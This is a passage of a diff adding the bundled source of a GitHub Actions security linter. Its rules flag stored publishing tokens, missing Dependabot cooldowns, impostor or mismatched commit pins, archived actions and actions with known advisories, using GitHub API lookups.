+ * shell grammar), leading `VAR=value` assignments skipped.
+ */
+function commands(script) {
+    const out = [];
+    const lines = script.split('\n');
+    for (let i = 0; i < lines.length; i++) {
+        const first = i;
+        let text = lines[i];
+        while (/[\\`]\s*$/.test(text) && i + 1 < lines.length)
+            text = text.replace(/[\\`]\s*$/, ' ') + lines[++i];
+        const re = /[^;&|]+/g;
+        for (let m = re.exec(text); m; m = re.exec(text)) {
+            const part = m[0].replace(/#.*$/, '');
+            const lead = /^\s*/.exec(part)[0].length;
+            const words = part.trim().split(/\s+/).filter(Boolean).map((w) => w.replace(/^['"]|['"]$/g, ''));
+            let start = 0;
+            while (start < words.length && /^[A-Za-z_]\w*=/.test(words[start]))
+                start++;
+            for (const prefix of ['sudo', 'exec', 'time'])
+                if (words[start] === prefix)
+                    start++;
+            // A column past the first line's end belongs to a joined line; the command starts on the first.
+            if (start < words.length)
+                out.push({ words: words.slice(start), line: first, column: Math.min(m.index + lead, lines[first].length) });
+        }
+    }
+    return out;
+}
+/** Whether the job's token may request an OIDC token (`id-token: write`, or `write-all`), at job or workflow level. */
+function hasIdToken(job, workflow) {
+    const perms = job.permissions ?? workflow.permissions?.value;
+    if (!perms)
+        return false;
+    if ((0,dist/* isString */.Kg)(perms))
+        return perms.value.trim() === 'write-all';
+    return textOf(entryOf(perms, 'id-token')?.value)?.trim() === 'write';
+}
+/** The file position of a 0-based line and column of a `run:` script. */
+function scriptPos(run, lines, line, column) {
+    const r = run.range;
+    const header = (lines[r.start.line - 1] ?? '').slice(r.start.column - 1);
+    if (!/^[|>]/.test(header))
+        return { line: r.start.line, column: r.start.column + column + (/^['"]/.test(header) ? 1 : 0) };
+    const first = lines[r.start.line] ?? '';
+    const indent = /^ */.exec(first)[0].length;
+    return { line: r.start.line + 1 + line, column: indent + column + 1 };
+}
+const use_trusted_publishing_rule = {
+    id: 'PG225',
+    name: 'use-trusted-publishing',
+    level: 'note',
+    description: 'A package published to PyPI, npm, crates.io, RubyGems or NuGet with a stored token (a publishing action given a password or token, or `npm publish`, `twine upload`, `cargo publish`, … in a job without `id-token: write`), where the registry offers trusted publishing.',
+    help: 'A long-lived registry token in the repository\'s secrets can be stolen and used from anywhere until someone revokes it. These registries accept trusted publishing instead: the job asks GitHub for a short-lived OIDC token (`permissions: { id-token: write }`) and the registry trusts that repository and workflow only. Configure the trusted publisher on the registry, drop the `password:`/`api-token:` input (or `always-auth:`), and give the publishing job `id-token: write`. Same as zizmor\'s use-trusted-publishing audit; commands are found line by line (`&&`, `;` and `|` split them), not with a full shell grammar.',
+    create(context) {
+        const checkAction = (step, report) => {
+            const uses = parseUses(step.uses?.value);
+            const check = uses && ACTIONS.get(repoName(uses));
+            const via = check?.(step.with);
+            const key = entryOf(step.token, 'uses')?.key;
+            if (via && key)
+                report(key.at, `"${uses.owner}/${uses.repo}" publishes with a stored credential (${via}:); configure trusted publishing on the registry, drop ${via}: and give the job id-token: write`);
+        };
+        return {
+            step(step, owner, file) {
+                checkAction(step, (at, message) => context.report(file.file, { at }, message));
+                if (file.kind !== 'workflow' || !('id' in owner) || hasIdToken(owner, file))
+                    return;
+                const run = entryOf(step.token, 'run')?.value;
+                const script = textOf(run);
+                if (!run?.range || !script)
+                    return;
+                const shell = textOf(entryOf(step.token, 'shell')?.value);
+                if (shell && !['bash', 'sh', 'zsh', 'pwsh', 'powershell'].includes(shellName(shell)))
+                    return;
+                const lines = file.file.text.split('\n');
+                for (const c of commands(script)) {
+                    if (!isPublishCommand(c.words[0], c.words.slice(1)))
+                        continue;
+                    const at = scriptPos(run, lines, c.line, c.column);
+                    context.report(file.file, { at }, `"${c.words.join(' ')}" publishes with a stored token from a job without id-token: write; configure trusted publishing on the registry and give the job id-token: write`);
+                }
+            }
+        };
+    }
+};
+/* harmony default export */ const use_trusted_publishing = (use_trusted_publishing_rule);
+
+;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/supply-chain/dependabot-cooldown.js
+/** zizmor's default minimum `cooldown.default-days`. */
+const MIN_COOLDOWN_DAYS = 7;
+/** Dependabot's own cooldown when none is configured, as zizmor takes it. */
+const DEPENDABOT_DEFAULT_DAYS = 3;
+const dependabot_cooldown_rule = {
+    id: 'PG228',
+    name: 'dependabot-cooldown',
+    level: 'warning',
+    description: `An \`updates:\` entry of \`.github/dependabot.yml\` without \`cooldown: { default-days: ${MIN_COOLDOWN_DAYS} }\` or more: new releases are proposed before the community has had time to spot a compromised one.`,
+    help: `Compromised releases of popular packages (and actions) are usually found and pulled within days. With a cooldown, Dependabot waits that many days after a release before proposing it, so that a malicious version rarely reaches your lock file. Set \`cooldown: { default-days: ${MIN_COOLDOWN_DAYS} }\` (or more) on every \`updates:\` entry; security updates are not delayed by it. Read from \`.github/dependabot.yml\` (or \`.yaml\`) of the workspace, or a Dependabot file given in \`paths\`. Same as zizmor's dependabot-cooldown audit with its default of ${MIN_COOLDOWN_DAYS} days, except that every entry is checked (zizmor stops at the first entry with enough days).`,
+    create(context) {
+        return {
+            dependabot(config) {
+                for (const update of config.updates) {
+                    const what = update.ecosystem ? `the ${update.ecosystem.value} updates${update.directory ? ` of ${update.directory.value}` : ''}` : 'this update';
+                    const set = update.cooldownDefaultDays;
+                    if (set) {
+                        const days = Number(set.days);
+                        if (Number.isFinite(days) && days >= MIN_COOLDOWN_DAYS)
+                            continue;
+                        context.report(config.file, set, `cooldown of ${what} is ${set.days} days, less than ${MIN_COOLDOWN_DAYS}; set default-days: ${MIN_COOLDOWN_DAYS} or more`);
+                    }
+                    else if (update.cooldownKey) {
+                        context.report(config.file, update.cooldownKey, `cooldown of ${what} has no default-days, so it is Dependabot's ${DEPENDABOT_DEFAULT_DAYS}; add default-days: ${MIN_COOLDOWN_DAYS}`);
+                    }
+                    else {
+                        context.report(config.file, update, `${what} have no cooldown: new releases are proposed at once; add cooldown: { default-days: ${MIN_COOLDOWN_DAYS} }`);
+                    }
+                }
+            }
+        };
+    }
+};
+/* harmony default export */ const dependabot_cooldown = (dependabot_cooldown_rule);
+
+;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/supply-chain/dependabot-execution.js
+const dependabot_execution_rule = {
+    id: 'PG229',
+    name: 'dependabot-execution',
+    level: 'error',
+    description: 'An `updates:` entry of `.github/dependabot.yml` with `insecure-external-code-execution: allow`: Dependabot runs code of the updated packages while resolving them, with access to its registry credentials.',
+    help: 'For some ecosystems (bundler, mix, pip) resolving a dependency can execute code the package ships. `insecure-external-code-execution: allow` lets Dependabot do so, with the private registry credentials of the update in reach: one compromised package can steal them. Remove the key (`deny` is the default) and vendor what needs building. Read from `.github/dependabot.yml` (or `.yaml`). Same as zizmor\'s dependabot-execution audit.',
+    create(context) {
+        return {
+            dependabot(config) {
+                for (const update of config.updates) {
+                    const setting = update.insecureExternalCodeExecution;
+                    if (setting?.setting.trim().toLowerCase() !== 'allow')
+                        continue;
+                    const what = update.ecosystem ? `the ${update.ecosystem.value} updates` : 'this update';
+                    context.report(config.file, setting, `insecure-external-code-execution: allow lets Dependabot run code of ${what} with its registry credentials; remove it (deny is the default)`);
+                }
+            }
+        };
+    }
+};
+/* harmony default export */ const dependabot_execution = (dependabot_execution_rule);
+
+;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/supply-chain/online.js
+const online_SHA = /^[0-9a-f]{40}$/i;
+const USES = /^([A-Za-z0-9][A-Za-z0-9-]*)\/([A-Za-z0-9._-]+)(?:\/[^@]*)?@([^@\s]+)$/;
+/** The remote `uses:` of every job and step (composite actions included), in file order. */
+function usesSites(project) {
+    const sites = [];
+    const add = (file, node) => {
+        const value = node?.value.trim();
+        if (!node || !value || value.includes('${{'))
+            return;
+        const m = USES.exec(value);
+        if (!m)
+            return;
+        const line = file.file.text.split('\n')[node.at.line - 1] ?? '';
+        const comment = /\s#(.*)$/.exec(line.slice(node.at.column - 1))?.[1]?.trim();
+        sites.push({ file: file.file, node, slug: `${m[1]}/${m[2]}`, owner: m[1], repo: m[2], ref: m[3], sha: online_SHA.test(m[3]) ? m[3].toLowerCase() : undefined, comment });
+    };
+    for (const parsed of project.files) {
+        const model = parsed.model;
+        if (!model)
+            continue;
+        const steps = (list) => list.forEach((s) => add(model, s.uses));
+        if (model.kind === 'workflow') {
+            for (const job of model.jobs) {
+                add(model, job.uses);
+                steps(job.steps);
+            }
+        }
+        else
+            steps(model.steps);
+    }
+    return sites;
+}
+/**
+ * The version a `# comment` names, as zizmor reads it: the whole comment is one word, after an
+ * optional `tag=`, `version:` or `ver=`.
+ */
+function commentVersion(comment) {
+    if (comment === undefined)
+        return undefined;
+    return /^\s*(?:(?:tag|version|ver)\s*[:=]\s*)?(\S+)$/.exec(comment)?.[1];
+}
+function isFailure(x) {
+    return typeof x === 'object' && x !== null && 'failed' in x;
+}
+const DEFAULTS = { concurrency: 4, timeoutMs: 15_000, maxPages: 10, maxCompares: 250, maxTagHops: 5, budgetMs: 120_000 };
+/** Per-run cache and request pacing over one client. */
+class OnlineSession {
+    client;
+    cache = new Map();
+    options;
+    active = 0;
+    waiting = [];
+    stopped;
+    /** Repositories (and `run`) whose failure was already reported. */
+    reported = new Set();
+    /** Requests sent, for tests and the log. */
+    requests = 0;
+    started = Date.now();
+    constructor(client, options = {}) {
+        this.client = client;
+        this.options = { ...DEFAULTS, ...options };
+    }
+    /** Runs `make` once per key for the session. */
+    once(key, make) {
+        let p = this.cache.get(key);
+        if (!p) {
+            p = make();
+            this.cache.set(key, p);
+        }
+        return p;
+    }
+    async slot(run) {
+        while (this.active >= this.options.concurrency)
+            await new Promise((resolve) => this.waiting.push(resolve));
+        this.active++;
+        try {
+            return await run();
+        }
+        finally {
+            this.active--;
+            this.waiting.shift()?.();
+        }
+    }
+    /** One GET; failures become an answer, a rate limit stops the session. */
+    async get(route, params, doing) {
+        if (this.stopped)
+            return { status: 0, failure: this.stopped };
+        return this.slot(async () => {
+            if (!this.stopped && Date.now() - this.started > this.options.budgetMs) {
+                this.stopped = { failed: `the online audits used their ${this.options.budgetMs / 1000}s for this run; the rest was not checked`, run: true };
+            }
+            if (this.stopped)
+                return { status: 0, failure: this.stopped };
+            this.requests++;
+            const signal = AbortSignal.timeout(this.options.timeoutMs);
+            try {
+                const res = await this.client.request(route, { ...params, request: { signal } });
+                return { data: res.data };
+            }
+            catch (err) {
+                const e = err;
+                const status = typeof e.status === 'number' ? e.status : 0;
+                const said = String(typeof e.response?.data?.message === 'string' ? e.response.data.message : (e.message ?? err)).replace(/\s+/g, ' ').replace(/\.$/, '');
+                const headers = e.response?.headers ?? {};
+                if ((status === 403 || status === 429) && (headers['x-ratelimit-remaining'] === '0' || /rate limit/i.test(said))) {
+                    this.stopped = { failed: `${doing}: GitHub answered ${status}: ${said}; the online audits stopped for this run (retry later, or use a token with its own rate limit)`, run: true };
+                    return { status, failure: this.stopped };
+                }
+                if (!e.response) {
+                    // No HTTP answer (refused, DNS, TLS): Octokit says "Unknown Error", its cause says why.
+                    const cause = err.cause;
+                    const why = signal.aborted ? `no answer within ${this.options.timeoutMs / 1000}s` : `could not reach the GitHub API: ${cause?.cause?.message ?? cause?.message ?? said}`;
+                    return { status, failure: { failed: `${doing}: ${why}` } };
+                }
+                return { status, failure: { failed: `${doing}: GitHub answered ${status}: ${said}` } };
+            }
+        });
+    }
+    /** GET /repos/{owner}/{repo}: archived, default branch. */
+    repository(owner, repo) {
+        return this.once(`repo ${owner}/${repo}`.toLowerCase(), async () => {
+            const a = await this.get('GET /repos/{owner}/{repo}', { owner, repo }, `reading ${owner}/${repo}`);
+            if ('failure' in a) {
+                return a.status === 404 ? { failed: `repository ${owner}/${repo} not found (deleted, renamed or private to this token)` } : a.failure;
+            }
+            const d = a.data;
+            return { archived: d.archived === true, defaultBranch: String(d.default_branch ?? 'main') };
+        });
+    }
+    list(kind, owner, repo) {
+        return this.once(`${kind} ${owner}/${repo}`.toLowerCase(), async () => {
+            const refs = [];
+            for (let page = 1; page <= this.options.maxPages; page++) {
+                const a = await this.get(`GET /repos/{owner}/{repo}/${kind}`, { owner, repo, per_page: 100, page }, `listing the ${kind} of ${owner}/${repo}`);
+                if ('failure' in a)
+                    return a.status === 404 ? { failed: `repository ${owner}/${repo} not found (deleted, renamed or private to this token)` } : a.failure;
+                const items = a.data;
+                for (const t of items)
+                    refs.push({ name: t.name, sha: t.commit.sha.toLowerCase() });
+                if (items.length < 100)
+                    return { refs, complete: true };
+            }
+            return { refs, complete: false };
+        });
+    }
+    /** Every tag, with the commit it points at (GET /tags peels annotated tags). */
+    tags(owner, repo) {
+        return this.list('tags', owner, repo);
+    }
+    branches(owner, repo) {
+        return this.list('branches', owner, repo);
+    }
+    /** The longest tag name at `sha` (`v4.2.2` rather than `v4`), or undefined. */
+    async tagAt(owner, repo, sha) {
+        const tags = await this.tags(owner, repo);
+        if (isFailure(tags))
+            return tags;
+        return tags.refs.filter((t) => t.sha === sha).sort((a, b) => b.name.length - a.name.length)[0]?.name;
+    }
+    /** The commit an annotated tag object points at, following tags of tags; undefined when `sha` is no tag object. */
+    peelTag(owner, repo, sha) {
+        return this.once(`peel ${owner}/${repo}@${sha}`.toLowerCase(), async () => {
+            let next = sha;
+            for (let hop = 0; hop < this.options.maxTagHops; hop++) {
+                const a = await this.get('GET /repos/{owner}/{repo}/git/tags/{tag_sha}', { owner, repo, tag_sha: next }, `reading tag object ${next.slice(0, 12)} of ${owner}/${repo}`);
+                if ('failure' in a)
+                    return a.status === 404 ? (hop === 0 ? undefined : next) : a.failure;
+                const object = a.data.object;
+                if (object.type !== 'tag')
+                    return object.sha.toLowerCase();
+                next = object.sha;
+            }
+            return undefined;
+        });
+    }
+    /** Whether `sha` is in the history of commit `base` (compare is `behind` or `identical`); undefined when GitHub does not know `sha`. */
+    contains(owner, repo, base, sha) {
+        return this.once(`compare ${owner}/${repo} ${base}...${sha}`.toLowerCase(), async () => {
+            const a = await this.get('GET /repos/{owner}/{repo}/compare/{basehead}', { owner, repo, basehead: `${base}...${sha}` }, `comparing ${sha.slice(0, 12)} with ${owner}/${repo}`);
+            if ('failure' in a)
+                return a.status === 404 ? undefined : a.failure;
+            const status = a.data.status;
+            return status === 'behind' || status === 'identical';
+        });
+    }
+    /**
+     * Whether `sha` belongs to the repository: `ok` when a branch or tag has it in its history,
+     * `impostor` when none does, `missing` when it shares history with none of them (no such
+     * commit, or an orphan), `unknown` when the bounds stopped the search first.
+     */
+    reachable(owner, repo, sha) {
+        return this.once(`reachable ${owner}/${repo}@${sha}`.toLowerCase(), async () => {
+            const [info, tags, branches] = await Promise.all([this.repository(owner, repo), this.tags(owner, repo), this.branches(owner, repo)]);
+            if (isFailure(info))
+                return info;
+            if (isFailure(tags))
+                return tags;
+            if (isFailure(branches))
+                return branches;
+            const heads = [...tags.refs, ...branches.refs];
+            if (heads.some((r) => r.sha === sha))
+                return 'ok';
+            // The default branch first, then tags (releases), then the other branches: each a base.
+            const def = branches.refs.find((b) => b.name === info.defaultBranch);
+            const bases = [...new Set([...(def ? [def.sha] : []), ...tags.refs.map((t) => t.sha), ...branches.refs.map((b) => b.sha)])];
+            if (bases.length === 0)
+                return tags.complete && branches.complete ? 'missing' : 'unknown';
+            let candidate = sha;
+            let first = await this.contains(owner, repo, bases[0], candidate);
+            if (first === undefined) {
+                // Unknown to compare: perhaps an annotated tag's object SHA.
+                const peeled = await this.peelTag(owner, repo, sha);
+                if (isFailure(peeled))
+                    return peeled;
+                if (peeled && heads.some((r) => r.sha === peeled))
+                    return 'ok';
+                if (peeled) {
+                    candidate = peeled;
+                    first = await this.contains(owner, repo, bases[0], candidate);
+                }
+            }
+            if (isFailure(first))
+                return first;
+            if (first)
+                return 'ok';
+            let related = first !== undefined;
+            // The other bases a few at a time (as many as requests may run at once), up to the bound.
+            const rest = bases.slice(1, this.options.maxCompares);
+            for (let i = 0; i < rest.length; i += this.options.concurrency) {
+                const answers = await Promise.all(rest.slice(i, i + this.options.concurrency).map((base) => this.contains(owner, repo, base, candidate)));
+                const failure = answers.find(isFailure);
+                if (failure)
+                    return failure;
+                if (answers.includes(true))
+                    return 'ok';
+                if (answers.includes(false))
+                    related = true;
+            }
+            if (bases.length > this.options.maxCompares)
+                return 'unknown';
+            if (!tags.complete || !branches.complete)
+                return 'unknown';
+            // Compare answers 404 for a commit GitHub does not know, and for one that shares no history.
+            return related ? 'impostor' : 'missing';
+        });
+    }
+    /** Reviewed, not withdrawn advisories of the `actions` ecosystem that affect `owner/repo@version`. */
+    advisories(owner, repo, version) {
+        const slug = `${owner}/${repo}`;
+        return this.once(`advisories ${slug}@${version}`.toLowerCase(), async () => {
+            const a = await this.get('GET /advisories', { ecosystem: 'actions', affects: `${slug}@${version}`, per_page: 100 }, `reading the advisories of ${slug}@${version}`);
+            if ('failure' in a)
+                return a.failure;
+            const list = a.data;
+            return list
+                .filter((x) => !x.withdrawn_at)
+                .map((x) => {
+                const vuln = (x.vulnerabilities ?? []).find((v) => v.package?.ecosystem === 'actions' && v.package.name?.toLowerCase() === slug.toLowerCase());
+                return { ghsaId: x.ghsa_id, severity: x.severity, summary: x.summary, firstPatched: vuln?.first_patched_version ?? undefined };
+            });
+        });
+    }
+}
+const sessions = new WeakMap();
+/** The run's session: one per client, whichever rule asks first; undefined without a token. */
+function sessionFor(context) {
+    const client = context.github;
+    if (!client)
+        return undefined;
+    let s = sessions.get(client);
+    if (!s) {
+        s = new OnlineSession(client);
+        sessions.set(client, s);
+    }
+    return s;
+}
+/**
+ * Reports a failure once: per repository, or per run for a rate limit (at the first site that met
+ * it), as a note of the rule that met it first. True when there was a failure.
+ */
+function reportFailure(context, session, site, answer) {
+    if (!isFailure(answer))
+        return false;
+    const key = answer.run ? 'run' : site.slug.toLowerCase();
+    if (session.reported.has(key))
+        return true;
+    session.reported.add(key);
+    context.report(site.file, site.node, `could not check "${site.node.value.trim()}" through the GitHub API: ${answer.failed}`, 'note');
+    return true;
+}
+/** The tags and branches of a site's repository; undefined (the failure reported) when unreadable. */
+async function refsOf(context, session, site) {
+    const [tags, branches] = await Promise.all([session.tags(site.owner, site.repo), session.branches(site.owner, site.repo)]);
+    if (reportFailure(context, session, site, tags) || reportFailure(context, session, site, branches) || isFailure(tags) || isFailure(branches))
+        return undefined;
+    return { tags, branches };
+}
+/** Runs `check` for every site, all at once (the session paces the requests). */
+async function eachSite(context, check) {
+    const session = sessionFor(context);
+    if (!session)
+        return;
+    await Promise.all(usesSites(context.project).map((site) => check(session, site)));
+}
+
+;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/supply-chain/impostor-commit.js
+
+const impostor_commit_rule = {
+    id: 'PG240',
+    name: 'impostor-commit',
+    level: 'error',
+    description: 'A `uses:` pinned to a commit SHA that is in the history of no branch and no tag of the named repository (a commit of a fork).',
+    help: 'A repository and its forks share one network of commits on GitHub, so `owner/repo@<sha>` runs a commit pushed to any fork as if `owner/repo` had made it (an "impostor commit"; see Chainguard\'s "What the fork?"). A pull request that bumps a SHA can hide one. Pin a commit of a release of the repository itself (`owner/repo@<sha of a tag> # v1.2.3`). Read through the GitHub API with the `token` input (GET tags, branches and compare), cached for the run; zizmor\'s `impostor-commit`.',
+    create(context) {
+        return {
+            prepare: () => eachSite(context, async (session, site) => {
+                if (!site.sha)
+                    return;
+                const verdict = await session.reachable(site.owner, site.repo, site.sha);
+                if (reportFailure(context, session, site, verdict))
+                    return;
+                if (verdict === 'impostor') {
+                    context.report(site.file, site.node, `commit ${site.sha.slice(0, 12)} of "${site.node.value.trim()}" is on no branch or tag of ${site.slug}: it may come from a fork (an impostor commit); pin a commit of a release of ${site.slug}`);
+                }
+                else if (verdict === 'missing') {
+                    context.report(site.file, site.node, `commit ${site.sha.slice(0, 12)} of "${site.node.value.trim()}" is unknown to ${site.slug} or shares no history with its branches and tags; pin a commit of a release of ${site.slug}`);
+                }
+            })
+        };
+    }
+};
+/* harmony default export */ const impostor_commit = (impostor_commit_rule);
+
+;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/supply-chain/ref-confusion.js
+
+const ref_confusion_rule = {
+    id: 'PG241',
+    name: 'ref-confusion',
+    level: 'warning',
+    description: 'A `uses:` ref that is both a branch and a tag of the repository, so which commit runs depends on how GitHub resolves the name.',
+    help: 'When `owner/repo@name` is both a branch and a tag, whoever can push a branch (a much weaker right than making a release) can decide what runs: GitHub resolves the branch first. Pin a full commit SHA (`owner/repo@<sha> # v1.2.3`), or ask the maintainers to delete the branch. Read through the GitHub API with the `token` input (GET tags and branches), cached for the run; zizmor\'s `ref-confusion`.',
+    create(context) {
+        return {
+            prepare: () => eachSite(context, async (session, site) => {
+                if (site.sha)
+                    return;
+                const refs = await refsOf(context, session, site);
+                if (!refs)
+                    return;
+                const { tags, branches } = refs;
+                const tag = tags.refs.find((t) => t.name === site.ref);
+                const branch = branches.refs.find((b) => b.name === site.ref);
+                if (!tag || !branch)
+                    return;
+                context.report(site.file, site.node, `ref "${site.ref}" of "${site.node.value.trim()}" is both a branch (commit ${branch.sha.slice(0, 12)}) and a tag (commit ${tag.sha.slice(0, 12)}) of ${site.slug}; pin a full commit SHA`);
+            })
+        };
+    }
+};
+/* harmony default export */ const ref_confusion = (ref_confusion_rule);
+
+;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/supply-chain/ref-version-mismatch.js
+
+const ref_version_mismatch_rule = {
+    id: 'PG242',
+    name: 'ref-version-mismatch',
+    level: 'warning',
+    description: 'A `uses:` pinned to a commit SHA whose version comment names a tag of another commit, or a tag the repository does not have.',
+    help: 'Reviewers read the `# v1.2.3` after a pinned SHA, and Dependabot and Renovate update both together; when the tag is another commit, the comment hides what really runs (an older, perhaps vulnerable release, or a commit of no release). Fix the comment to the tag of the pinned commit, or pin the commit of the tag the comment names. Read through the GitHub API with the `token` input (GET tags and branches), cached for the run; zizmor\'s `ref-version-mismatch`.',
+    create(context) {
+        return {
+            prepare: () => eachSite(context, async (session, site) => {
+                const version = commentVersion(site.comment);
+                if (!site.sha || !version)
+                    return;
+                const refs = await refsOf(context, session, site);
+                if (!refs)
+                    return;
+                const { tags, branches } = refs;
+                // As GitHub resolves a name: a branch before a tag.
+                const named = branches.refs.find((b) => b.name === version) ?? tags.refs.find((t) => t.name === version);
+                if (named?.sha === site.sha)
+                    return;
+                const actual = tags.refs.filter((t) => t.sha === site.sha).sort((a, b) => b.name.length - a.name.length)[0]?.name;
+                const fix = actual ? `the pinned commit is ${actual}; write "# ${actual}"` : `the pinned commit is no tag of ${site.slug}`;
+                if (named) {
+                    context.report(site.file, site.node, `comment "${version}" of "${site.node.value.trim()}" does not match: ${version} of ${site.slug} is commit ${named.sha.slice(0, 12)}, not ${site.sha.slice(0, 12)}; ${fix}`);
+                }
+                else if (tags.complete && branches.complete) {
+                    context.report(site.file, site.node, `comment "${version}" of "${site.node.value.trim()}" names no tag or branch of ${site.slug}; ${fix}`);
+                }
+            })
+        };
+    }
+};
+/* harmony default export */ const ref_version_mismatch = (ref_version_mismatch_rule);
+
+;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/supply-chain/stale-action-refs.js
+
+const stale_action_refs_rule = {
+    id: 'PG243',
+    name: 'stale-action-refs',
+    level: 'note',
+    description: 'A `uses:` pinned to a commit SHA that is the commit of no tag of the repository: a commit between releases, which Dependabot and Renovate do not update.',
+    help: 'A pin to an untagged commit runs code no release vouched for, and version updaters cannot tell which release it is, so it stays behind. Pin the commit of a release (`owner/repo@<sha of the tag> # v1.2.3`). Read through the GitHub API with the `token` input (GET tags), cached for the run; zizmor\'s `stale-action-refs`.',
+    create(context) {
+        return {
+            prepare: () => eachSite(context, async (session, site) => {
+                if (!site.sha)
+                    return;
+                const tags = await session.tags(site.owner, site.repo);
+                if (reportFailure(context, session, site, tags) || isFailure(tags))
+                    return;
+                if (!tags.complete || tags.refs.some((t) => t.sha === site.sha))
+                    return;
+                context.report(site.file, site.node, `commit ${site.sha.slice(0, 12)} of "${site.node.value.trim()}" is no tag of ${site.slug}; pin the commit of a release`);
+            })
+        };
+    }
+};
+/* harmony default export */ const stale_action_refs = (stale_action_refs_rule);
+
+;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/supply-chain/archived-uses.js
+
+const archived_uses_rule = {
+    id: 'PG244',
+    name: 'archived-uses',
+    level: 'warning',
+    description: 'A `uses:` of an action or reusable workflow whose repository is archived.',
+    help: 'An archived repository gets no more fixes, security fixes included, and its actions often run on a retired Node.js. Move to the maintained replacement the repository\'s README names (e.g. `ruby/setup-ruby` for `actions/setup-ruby`), or vendor the action. Read through the GitHub API with the `token` input (GET the repository), cached for the run; zizmor\'s `archived-uses`.',
+    create(context) {
+        return {
+            prepare: () => eachSite(context, async (session, site) => {
+                const info = await session.repository(site.owner, site.repo);
+                if (reportFailure(context, session, site, info) || isFailure(info) || !info.archived)
+                    return;
+                context.report(site.file, site.node, `"${site.node.value.trim()}" comes from ${site.slug}, which is archived: it gets no more fixes; use a maintained replacement`);
+            })
+        };
+    }
+};
+/* harmony default export */ const archived_uses = (archived_uses_rule);
+
+;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/supply-chain/known-vulnerable-actions.js
+
+const known_vulnerable_actions_rule = {
+    id: 'PG245',
+    name: 'known-vulnerable-actions',
+    level: 'warning',
+    description: 'A `uses:` of an action version that a GitHub security advisory of the `actions` ecosystem names as vulnerable (an error for high and critical ones).',
+    help: 'GitHub\'s advisory database lists vulnerable versions of actions (tj-actions/changed-files before 46.0.1 leaked secrets to logs, for one). Upgrade to the first patched version the message names, pinned by SHA. The version is the tag of the pinned commit that its `# comment` names, else its longest tag (`v4.2.2` rather than `v4`), or the tag or branch named. Read through the GitHub API with the `token` input (GET tags and /advisories?ecosystem=actions&affects=…), cached for the run; zizmor\'s `known-vulnerable-actions`.',
+    create(context) {
+        return {
+            prepare: () => eachSite(context, async (session, site) => {
+                const refs = await refsOf(context, session, site);
+                if (!refs)
+                    return;
+                const { tags, branches } = refs;
+                // As GitHub resolves a name (a branch before a tag), then the longest tag of that commit.
+                const commit = site.sha ?? (branches.refs.find((b) => b.name === site.ref) ?? tags.refs.find((t) => t.name === site.ref))?.sha;
+                // The tag the version comment names when it is one of the commit's tags (tags at one
+                // commit are many, e.g. v45.0.5 … v45.0.9 of tj-actions/changed-files), else the longest.
+                const atCommit = commit ? tags.refs.filter((t) => t.sha === commit).map((t) => t.name) : [];
+                const claimed = commentVersion(site.comment);
+                const tagged = claimed && atCommit.includes(claimed) ? claimed : [...atCommit].sort((a, b) => b.length - a.length)[0];
+                const version = tagged || (site.sha ? undefined : site.ref);
+                if (!version)
+                    return;
+                const advisories = await session.advisories(site.owner, site.repo, version);
+                if (reportFailure(context, session, site, advisories) || isFailure(advisories))
+                    return;
+                for (const a of advisories) {
+                    const upgrade = a.firstPatched ? `upgrade to ${a.firstPatched} or later` : 'no patched version yet: replace the action';
+                    const level = a.severity === 'high' || a.severity === 'critical' ? 'error' : undefined;
+                    context.report(site.file, site.node, `${site.slug} ${version} is vulnerable: ${a.ghsaId} (${a.severity}) ${a.summary.replace(/\s+/g, ' ').trim().replace(/\.$/, '')}; ${upgrade}`, level);
+                }
+            })
+        };
+    }
+};
+/* harmony default export */ const known_vulnerable_actions = (known_vulnerable_actions_rule);
+
+;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/supply-chain/popular-actions.data.js
+/**
+ * Generated by scripts/popular-actions/generate.mjs from the action.yml of each repository in
+ * scripts/popular-actions/sources.txt; do not edit. Per action (lower case) and major version:
+ * `runs.using|inputs`, inputs separated by spaces (`!` required without a default, `~` deprecated),
+ * or the change from the major before (`+added -removed`, `=` for none). The ref and commit read: scripts/popular-actions/refs.txt.
+ */
+const POPULAR_ACTIONS = { "actions/attest-build-provenance": { "v0": "composite|subject-path subject-digest subject-name push-to-registry github-token", "v1": "composite|+show-summary", "v2": "composite|+subject-checksums", "v3": "composite|=", "v4": "composite|+predicate-type +predicate +predicate-path +create-storage-record" },
+    "actions/cache": { "v0": "node12|path! key! restore-keys", "v1": "node12|=", "v2": "node12|+upload-chunk-size", "v3": "node16|+enableCrossOsArchive +fail-on-cache-miss +lookup-only", "v4": "node20|+save-always~", "v5": "node24|=" },
+    "actions/checkout": { "v1": "|repository ref token clean submodules lfs fetch-depth path", "v2": "node12|+ssh-key +ssh-known-hosts +ssh-strict +persist-credentials +set-safe-directory +allow-unsafe-pr-checkout", "v3": "node16|+sparse-checkout +sparse-checkout-cone-mode +fetch-tags +github-server-url", "v4": "node20|+ssh-user +filter +show-progress", "v5": "node24|=", "v6": "node24|=", "v7": "node24|=" },
+    "actions/configure-pages": { "v0": "node16|static_site_generator token", "v1": "node16|+generator_config_file +enablement", "v2": "node16|=", "v3": "node16|=", "v4": "node20|=", "v5": "node20|=" },
+    "actions/create-github-app-token": { "v1": "node20|app-id app_id~ private-key private_key~ owner repositories skip-token-revoke skip_token_revoke~ github-api-url permission-actions permission-administration permission-checks permission-codespaces permission-contents permission-dependabot-secrets permission-deployments permission-email-addresses permission-environments permission-followers permission-git-ssh-keys permission-gpg-keys permission-interaction-limits permission-issues permission-members permission-metadata permission-organization-administration permission-organization-announcement-banners permission-organization-copilot-seat-management permission-organization-custom-org-roles permission-organization-custom-properties permission-organization-custom-roles permission-organization-events permission-organization-hooks permission-organization-packages permission-organization-personal-access-token-requests permission-organization-personal-access-tokens permission-organization-plan permission-organization-projects permission-organization-secrets permission-organization-self-hosted-runners permission-organization-user-blocking permission-packages permission-pages permission-profile permission-pull-requests permission-repository-custom-properties permission-repository-hooks permission-repository-projects permission-secret-scanning-alerts permission-secrets permission-security-events permission-single-file permission-starring permission-statuses permission-team-discussions permission-vulnerability-alerts permission-workflows", "v2": "node20|+app-id! +private-key! +permission-custom-properties-for-organizations 